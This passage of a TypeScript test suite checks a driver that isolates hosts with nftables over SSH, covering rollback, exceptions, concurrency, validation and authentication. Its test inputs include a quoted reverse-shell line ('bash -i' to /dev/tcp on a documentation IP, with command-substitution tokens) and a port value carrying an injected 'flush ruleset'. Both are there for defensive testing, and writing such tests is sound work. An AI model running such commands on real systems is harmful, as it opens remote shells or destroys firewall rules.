      const r = await lab.exec(host().ns, ['nft', '-j', '-f', '-'], JSON.stringify(b));
      return { code: r.code, toString: () => r.stderr };
    };
    const first = await apply(renderIsolate(TABLE, doc, 1, deadline));
    assert.equal(first.code, 0, String(first));
    const rb = await apply(renderRollback(TABLE, deadline, null));
    assert.equal(rb.code, 0, `unconfirmed: rollback applies: ${String(rb)}`);
    assert.ok(!(await lab.nft(host().ns, ['list', 'tables'])).stdout.includes(TABLE));
    assert.equal((await apply(renderIsolate(TABLE, doc, 1, deadline))).code, 0);
    const conf = await apply(renderConfirm(TABLE, deadline, doc));
    assert.equal(conf.code, 0, String(conf));
    const late = await apply(renderRollback(TABLE, deadline, null));
    assert.notEqual(late.code, 0, 'confirmed: a late rollback fails as a whole');
    assert.match(String(late), /No such file or directory/);
    assert.ok((await lab.nft(host().ns, ['list', 'tables'])).stdout.includes(TABLE));
  });

  it('never touches another table', async () => {
    const foreign = 'table inet foreign_fw {\n\tchain input {\n\t\ttype filter hook input priority 0; policy accept;\n\t\ttcp dport 12345 counter accept\n\t}\n}';
    assert.equal((await lab.exec(host().ns, ['nft', '-f', '-'], foreign)).code, 0);
    const before = (await lab.nft(host().ns, ['-s', 'list', 'table', 'inet', 'foreign_fw'])).stdout;
    await driver.isolate(target, { presets: ['ssh'] });
    await driver.setExceptions(target, 'add', [{ direction: 'in', proto: 'udp', port: 53 }]);
    assert.equal((await lab.nft(host().ns, ['-s', 'list', 'table', 'inet', 'foreign_fw'])).stdout, before);
    await driver.unisolate(target);
    assert.equal((await lab.nft(host().ns, ['-s', 'list', 'table', 'inet', 'foreign_fw'])).stdout, before);
    await lab.nft(host().ns, ['delete', 'table', 'inet', 'foreign_fw']);
  });

  it('round-trips status through the host, surviving a controller restart', async () => {
    const reason = 'Wazuh 100210: "bash -i" >& /dev/tcp/203.0.113.66/4444; $(id) `x` ü\nfull_log: type=EXECVE\targc=3';
    const exceptions = [
      { direction: 'in' as const, proto: 'tcp' as const, addr: '198.18.0.0/16', port: '20-30', comment: 'jump hosts' },
      { direction: 'in' as const, proto: 'tcp' as const, addr: '198.18.0.0/24', port: '25-40' },
      { direction: 'out' as const, proto: 'any' as const, addr: '2001:db8::/32' },
      { direction: 'out' as const, proto: 'icmp' as const, icmpType: 'echo-request' },
    ];
    const info: { digest?: string } = {};
    const st = await driver.isolate(target, { presets: ['dns', 'dhcp', 'ntp', 'ldap', 'ldaps', 'cloud-metadata'], exceptions, reason }, info);
    assert.match(info.digest ?? '', /^[0-9a-f]{64}$/, 'digest of the applied batch');
    // a filter of many terms reaches ss a term a line (ss refuses a filter line over 1 KiB)
    assert.deepEqual(st.warnings, [], 'open connections cut as asked');
    assert.equal(typeof st.severed, 'number');
    const other = new IsolationDriver();
    try {
      const read = await other.status(target);
      // severed and changed describe the action, not the host: a status reads none and changes nothing
      assert.equal(st.changed, true, 'isolated now');
      assert.deepEqual({ ...read, dropped: null }, { ...st, dropped: null, severed: null, changed: false });
      assert.equal(read.reason, reason);
      assert.ok(read.exceptions.some((e) => e.comment === 'jump hosts' && e.port === '20-30'));
    } finally {
      await other.close();
    }
  });

  it('changes exceptions live, atomically, and refuses on a host that is not isolated', async () => {
    await expectCode(driver.setExceptions(target, 'add', [{ direction: 'in', proto: 'tcp', port: 8090 }]), 'NOT_ISOLATED');
    const l = await lab.listen(host().ns, 8090);
    try {
      await driver.isolate(target, { presets: ['ssh'] });
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 8090), false);
      const added = await driver.setExceptions(target, 'add', [{ direction: 'in', proto: 'tcp', addr: lab.peer.v4, port: 8090, comment: 'forensics' }]);
      assert.equal(added.exceptions.length, 2);
      const conn = await lab.openConnection(lab.peer.ns, host().v4, 8090);
      try {
        assert.equal(await conn.roundTrip(), true, 'added exception passes');
        // adding an overlapping wider exception keeps the live flow
        await driver.setExceptions(target, 'add', [{ direction: 'in', proto: 'tcp', addr: '198.18.0.0/15', port: '8000-8999' }]);
        assert.equal(await conn.roundTrip(), true, 'flow survives an unrelated change');
        const removed = await driver.setExceptions(target, 'remove', [
          { direction: 'in', proto: 'tcp', addr: lab.peer.v4, port: 8090 },
          { direction: 'in', proto: 'tcp', addr: '198.18.0.0/15', port: '8000-8999' },
        ]);
        assert.deepEqual(
          removed.exceptions.map((e) => e.port),
          [22],
        );
        assert.equal(await conn.roundTrip(), false, 'removed exception stops the flow at once');
      } finally {
        conn.close();
      }
      const replaced = await driver.setExceptions(target, 'replace', [{ direction: 'out', proto: 'udp', port: 53 }]);
      assert.deepEqual(replaced.exceptions, [{ direction: 'out', proto: 'udp', port: 53 }]);
      assert.equal((await driver.status(target)).since, replaced.since, 'since is kept across changes');
      // management survives a replace that drops the ssh preset
      const fresh = new IsolationDriver();
      try {
        assert.equal((await fresh.status(target)).isolated, true);
      } finally {
        await fresh.close();
      }
    } finally {
      l.close();
    }
  });

  it('serialises concurrent operations on one host', async () => {
    await driver.isolate(target, {});
    const ports = [1001, 1002, 1003, 1004, 1005, 1006];
    await Promise.all(ports.map((port) => driver.setExceptions(target, 'add', [{ direction: 'in', proto: 'tcp', port }])));
    const st = await driver.status(target);
    assert.deepEqual(st.exceptions.map((e) => e.port).sort(), ports);
  });

  it('detects a change made behind its back between read and write', async () => {
    await driver.isolate(target, {});
    // someone else bumps the generation: our update must fail rather than overwrite blindly
    await lab.nft(host().ns, ['flush', 'set', 'inet', TABLE, 'gen']);
    await expectCode(driver.setExceptions(target, 'add', [{ direction: 'in', proto: 'tcp', port: 1 }]), ['CONCURRENT_CHANGE', 'PARSE_ERROR']);
  });

  it('reports a damaged isolation record as PARSE_ERROR, and isolate replaces the damaged table', async () => {
    await driver.isolate(target, { reason: 'first' });
    await lab.nft(host().ns, ['flush', 'chain', 'inet', TABLE, 'state']);
    await expectCode(driver.status(target), 'PARSE_ERROR');
    const st = await driver.isolate(target, { reason: 'again' });
    assert.equal(st.reason, 'again');
    assert.equal((await driver.status(target)).isolated, true);
  });

  it('changes nothing on the host when input is invalid', async () => {
    await expectCode(driver.isolate(target, { exceptions: [{ direction: 'in', proto: 'tcp', port: '22; flush ruleset' }] }), 'VALIDATION');
    await expectCode(driver.isolate({ ...target, table: 'x y' }, {}), 'VALIDATION');
    assert.equal((await driver.status(target)).isolated, false);
  });

  it('refuses a wrong host key before sending anything', async () => {
    const d = new IsolationDriver();
    try {
      await expectCode(d.isolate({ ...target, knownHosts: host().wrongKnownHosts }, {}), 'HOST_KEY_MISMATCH');
      await expectCode(d.status({ ...target, knownHosts: '198.18.255.1 ' + host().knownHosts.split(' ').slice(1).join(' ') }), 'HOST_KEY_MISMATCH');
    } finally {
      await d.close();
    }
    assert.equal((await driver.status(target)).isolated, false);
  });

  it('fails in bounded time on a silent or unreachable host', async () => {
    const d = new IsolationDriver();
    try {
      for (const addr of [lab.sink.v4, lab.unusedV4]) {
        const t0 = Date.now();
        await expectCode(d.status({ ...target, host: addr, knownHosts: host().knownHosts.replace(host().v4, addr), timeoutMs: 2000 }), ['TIMEOUT', 'UNREACHABLE']);
        assert.ok(Date.now() - t0 < 6000, `took ${Date.now() - t0} ms`);
      }
    } finally {
      await d.close();
    }
  });

  it('authenticates with password and passphrase keys; reports auth failures', async () => {
    const { sudo, root } = lab.users;
    await withDriver(async (d) => {
      const pw = await d.status({ ...target, username: root.username, privateKey: undefined, password: root.password });
      assert.equal(pw.isolated, false);
      await expectCode(d.status({ ...target, username: root.username, privateKey: undefined, password: 'wrong' }), 'AUTH_FAILED');
      const viaSudo = { ...target, username: sudo.username, privateKey: sudo.privateKey, passphrase: sudo.passphrase, sudo: true };
      await expectCode(d.status({ ...viaSudo, passphrase: 'not it' }), 'AUTH_FAILED');
      const st = await d.isolate(viaSudo, { presets: ['ssh'] });
      assert.equal(st.isolated, true);
      assert.equal((await d.unisolate(viaSudo)).isolated, false);
    });
  });

  it('reports refused privilege with a typed error', async () => {
    const { nosudo, sudo } = lab.users;
    await withDriver(async (d) => {
      const base = { ...target, username: nosudo.username, privateKey: nosudo.privateKey, passphrase: nosudo.passphrase };
      await expectCode(d.isolate({ ...base, sudo: true }, {}), 'PRIVILEGE');
      await expectCode(d.isolate({ ...base, sudo: false }, {}), 'PRIVILEGE');
      // a sudo-capable user that forgets sudo is refused by nft itself
      await expectCode(d.status({ ...target, username: sudo.username, privateKey: sudo.privateKey, passphrase: sudo.passphrase }), 'PRIVILEGE');
    });
    assert.equal((await driver.status(target)).isolated, false);
  });
});
